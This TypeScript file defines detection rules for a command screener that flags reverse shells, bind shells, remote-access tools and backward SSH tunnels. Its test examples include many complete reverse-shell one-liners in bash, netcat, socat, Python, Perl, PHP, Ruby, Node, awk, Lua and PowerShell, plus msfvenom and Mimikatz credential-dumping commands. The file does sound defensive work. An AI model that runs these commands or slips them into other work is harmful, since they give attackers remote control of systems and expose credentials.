/** Shells handed to the network: reverse and bind shells in all common interpreters, and tunnels that open a way in. */
import { hostOf, isAddress, isAnonymous } from '../hosts.ts';
import { isShell } from '../interpreters.ts';
import { hasFlag, joinedArgs, upstream } from '../invocation.ts';
import type { Invocation } from '../invocation.ts';
import type { CommandRule } from '../rule.ts';

const NETCATS = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'pwncat', 'rcat', 'cryptcat', 'powercat'];
const DEVICE = /^\/dev\/(?:tcp|udp)\//;
const SHELL_PATH = /(?:^|[\s"'=:,])(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a|c)?sh(?:$|[\s"',])|cmd(?:\.exe)?(?:$|[\s"',])|powershell|pwsh/i;

/** Something that makes connections, in code of any language. */
const SOCKET = /\bsocket\b|\bSocket\b|TCPSocket|TCPServer|TCPClient|fsockopen|stream_socket_client|socket_create|net\.(?:connect|createConnection|Socket|createServer|Dial)|\.connect\(|\/inet\/tcp|\/dev\/tcp\/|IO::Socket|UDPSocket|WebSocket|SslStream|Deno\.connect|Bun\.connect|tls\.connect|new java\.net|s_client/;
/** Something that runs a shell, or ties a program's streams to a connection. */
const SHELL_CALL = /dup2|pty\.spawn|\/bin\/(?:ba|z|da|k|a)?sh|exec\s{0,4}[("'{]{1,3}(?:\/bin\/)?(?:ba|z)?sh|["'](?:ba|z|da)?sh["']|cmd\.exe|["']cmd["']|powershell|child_process|ProcessBuilder|getRuntime|shell_exec|proc_open|passthru|IO\.popen|io\.popen|os\.execute|\biex\b|Invoke-Expression|subprocess|os\.popen|getline|Open3|\bsystem\b|\bexec\b|`\$\w|\bqx\b|StreamReader/i;
/** Both ends tied: a shell reads what the network sends. */
const TIES = /dup2|fileno|fdopen|stdin\s{0,2}=|accept\(|pty\.spawn|\.pipe\([^;\n]{0,80}stdin|stdin\.pipe|exec\s?\(?["'{]{1,3}\/bin|while|recv|\.read|getline|\.gets|GetStream|fgets|<&|>&|>\s?&|&3|\$sock|stdio|loop|each_line|[0-2]\s{0,2}=>\s{0,2}\$\w|\[\s{0,2}\$\w+\s{0,2},\s{0,2}\$\w+/i;

function codeConnectsShell(code: string): boolean {
  return SOCKET.test(code) && SHELL_CALL.test(code) && TIES.test(code) && /(?:\d{1,3}\.){3}\d{1,3}|["'`][\w-]{1,63}(?:\.[\w-]{1,63}){1,8}["'`]|\b\d{2,5}\b|getenv|environ|argv|ARGV/.test(code);
}

function usesDevice(invocation: Invocation): boolean {
  return invocation.redirects.some((redirect) => DEVICE.test(redirect.target.text));
}

function hasShellAround(invocation: Invocation): boolean {
  return upstream(invocation).some((feed) => isShell(feed.name) || (feed.name === 'cmd') || feed.name === 'python');
}

export const REVERSE_SHELL_RULES: readonly CommandRule[] = [
  {
    id: 'shell-over-device', family: 'reverse-shell', certainty: 'certain', verbs: ['<redirects>'],
    test: (invocation) => usesDevice(invocation) && (isShell(invocation.name) || (invocation.name === 'exec' && invocation.redirects.some((redirect) => redirect.operator === '<>'))
      || invocation.redirects.some((redirect) => redirect.operator === '>&' && /^\d?$/.test(redirect.target.text) && isShell(invocation.name)) || hasShellAround(invocation) || invocation.path === '$SHELL' || invocation.name === 'script'),
    matches: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read l; do $l 2>&5 >&5; done', "bash -c 'sh -i >& /dev/udp/1.2.3.4/53 0>&1'", '0<&196;exec 196<>/dev/tcp/1.2.3.4/9; sh <&196 >&196', 'nohup bash -i > /dev/tcp/evil.example/1 0<&1 2>&1 &'],
    ignores: ['echo > /dev/tcp/localhost/5432', 'timeout 1 bash -c "</dev/tcp/db/5432"', 'cat < /dev/null'],
  },
  {
    id: 'netcat-shell', family: 'reverse-shell', certainty: 'certain', verbs: NETCATS,
    test: (invocation) => {
      const args = joinedArgs(invocation);
      if (hasFlag(invocation, '', '-e', '-c', '--exec', '--sh-exec', '-ep') && SHELL_PATH.test(args)) return true;
      if (invocation.texts.some((text) => /^-[a-z]*e$/.test(text)) && SHELL_PATH.test(args)) return true;
      return hasShellAround(invocation);
    },
    matches: ['nc -e /bin/sh 10.0.0.1 4444', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f', 'ncat --exec /bin/bash -lvp 4444', 'nc -lvnp 4444 -e cmd.exe', 'ncat -l 8080 --sh-exec "bash -i"'],
    ignores: ['nc -zv localhost 5432', 'echo ping | nc localhost 6379', 'nc -l 8080'],
  },
  {
    id: 'netcat-into-shell', family: 'reverse-shell', certainty: 'certain', verbs: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'cmd', 'powershell', 'pwsh'],
    test: (invocation) => upstream(invocation).some((feed) => NETCATS.includes(feed.name) || feed.name === 'telnet' || feed.name === 'socat' || (feed.name === 'openssl' && feed.texts[0] === 's_client') || feed.name === 'websocat'),
    matches: ['nc 10.0.0.1 4444 | bash', 'telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s; openssl s_client -connect x:1 | sh'],
    ignores: ['cat install.sh | bash', 'nc -z db 5432 && bash run.sh'],
  },
  {
    id: 'piped-shell', family: 'reverse-shell', certainty: 'certain', verbs: ['telnet', 'openssl', 'socat', 'websocat', 'gs-netcat'],
    test: (invocation) => {
      const args = joinedArgs(invocation);
      if (invocation.name === 'socat') return /exec:|system:|\bpty\b/.test(args) && SHELL_PATH.test(args.replace(/exec:|system:/g, ' ')) && /(?:tcp|udp|openssl|ssl|unix)[\w-]*:/.test(args);
      if (invocation.name === 'gs-netcat') return /-\w*[il]/.test(args);
      if (invocation.name === 'websocat') return /sh-c:|exec:|cmd:/.test(args);
      if (invocation.name === 'openssl' && invocation.texts[0] !== 's_client') return false;
      return upstream(invocation).some((feed) => isShell(feed.name) && (feed.texts.length === 0 || feed.texts.some((text) => /^-\w*i/.test(text))));
    },
    matches: ["socat TCP:10.0.0.1:4444 EXEC:'/bin/bash',pty,stderr", 'socat TCP-LISTEN:4444,fork EXEC:/bin/sh', 'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s', 'sh -i </tmp/p 2>&1 | telnet 1.2.3.4 9 >/tmp/p'],
    ignores: ['socat TCP-LISTEN:8080,fork TCP:localhost:80', 'openssl s_client -connect example.com:443', 'bash gen.sh | ssh host "cat > out"'],
  },
  {
    id: 'socket-shell-in-code', family: 'reverse-shell', certainty: 'certain', verbs: ['<code>'],
    test: (invocation) => codeConnectsShell((invocation.code ?? '').slice(0, 65_536)),
    matches: [
      "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
      "perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4242,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
      "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
      "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
      "node -e '(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(4242,\"10.0.0.1\",function(){c.pipe(sh.stdin);});})()'",
      "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4242\";while(42){do{printf \"$ \" |& s; s |& getline c; while((c |& getline)>0) print $0 |& s}while(c!=\"exit\")}}'",
      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    ],
    ignores: ["python3 -c \"import socket; s=socket.socket(); s.connect(('localhost', 80)); print(s.recv(10))\"", "node -e \"require('child_process').execSync('ls')\"", "python3 -c \"import socket; print(socket.gethostname())\""],
  },
  {
    id: 'powershell-socket-shell', family: 'reverse-shell', certainty: 'certain', verbs: ['<script>'],
    test: (invocation) => {
      const code = (invocation.code ?? '').replaceAll('`', '');
      return /Net\.Sockets\.(?:TcpClient|TcpListener|UdpClient)|Net\.WebSockets/i.test(code) && /GetStream|\.Read\(|AcceptTcpClient|\.Receive/i.test(code) && /\biex\b|Invoke-Expression|cmd(?:\.exe)?|powershell|Process|& \{?\$/i.test(code);
    },
    matches: ["PS> $c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write($r)}"],
    ignores: ["PS> (New-Object System.Net.Sockets.TcpClient).ConnectAsync('localhost', 80).Wait(500)", 'PS> Test-NetConnection localhost -Port 80'],
  },
  {
    id: 'remote-access-tool', family: 'reverse-shell', certainty: 'likely', verbs: ['msfvenom', 'msfconsole', 'chisel', 'ligolo-agent', 'frpc', 'sliver-client', 'empire', 'meterpreter', 'mimikatz', 'evil-winrm', 'psexec.py', 'wmiexec.py', 'impacket-psexec', 'tmate', 'gotty', 'ttyd', 'powercat', 'invoke-powershelltcp', 'invoke-mimikatz', 'gsocket', 'rathole', 'ztcp'],
    test: (invocation) => {
      if (/^(?:--?(?:version|help|h)|)$/.test(invocation.texts.join(' ')) && !/^invoke-|mimikatz/.test(invocation.name)) return false;
      if (invocation.name === 'tmate') return /-f|new-session|-s/i.test(joinedArgs(invocation)) || invocation.setting.background;
      if (invocation.name === 'ttyd' || invocation.name === 'gotty') return SHELL_PATH.test(joinedArgs(invocation)) && !/-c\s|--credential/.test(joinedArgs(invocation));
      return true;
    },
    matches: ['msfvenom -p linux/x64/shell_reverse_tcp LHOST=1.2.3.4 -f elf -o x', './chisel client 1.2.3.4:8080 R:socks', 'ttyd -p 8080 bash', 'PS> Invoke-Mimikatz -DumpCreds', 'tmate -S /tmp/t new-session -d'],
    ignores: ['chisel --version', 'ttyd --help'],
  },
  {
    id: 'backward-tunnel', family: 'reverse-shell', certainty: 'likely', verbs: ['ssh', 'autossh', 'plink'],
    test: (invocation) => {
      const reverse = invocation.texts.findIndex((text) => /^-[a-zA-Z]*R/.test(text));
      if (reverse === -1) return false;
      const forward = `${invocation.texts[reverse] ?? ''} ${invocation.texts[reverse + 1] ?? ''}`;
      const opensSsh = /:(?:localhost|127\.0\.0\.1):(?:22|3389|5900|445|23)\b/.test(forward);
      const host = invocation.texts.map((text) => hostOf(text)).find((found) => found !== undefined && (isAddress(found) || isAnonymous(found)));
      return opensSsh || host !== undefined;
    },
    matches: ['ssh -fN -R 2222:localhost:22 user@203.0.113.9', 'autossh -M 0 -R 9000:localhost:22 u@relay.example.com', 'ssh -R 80:localhost:3000 serveo.net'],
    ignores: ['ssh -L 5432:localhost:5432 db', 'ssh -R 8080:localhost:8080 dev.example.com'],
  },
  {
    id: 'shell-through-pipe', family: 'reverse-shell', certainty: 'certain', verbs: ['mkfifo', 'mknod'],
    // A pipe made for a shell: the rest of the line ties it to a program that connects.
    test: (invocation, scene) => scene.walk.script.includes('sh') && invocation.texts.length > 0 && /\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b/.test(scene.walk.script) && /\b(?:ba|z|da|k)?sh\s+(?:-i|\d?<|2>|\|)/.test(scene.walk.script),
    matches: ['mknod /tmp/b p && /bin/sh 0</tmp/b | nc 10.0.0.1 4444 1>/tmp/b', 'mkfifo p; nc 1.2.3.4 5 < p | sh -i > p 2>&1'],
    ignores: ['mkfifo /tmp/p; gzip < /tmp/p > out.gz &', 'mkfifo build.pipe'],
  },
];
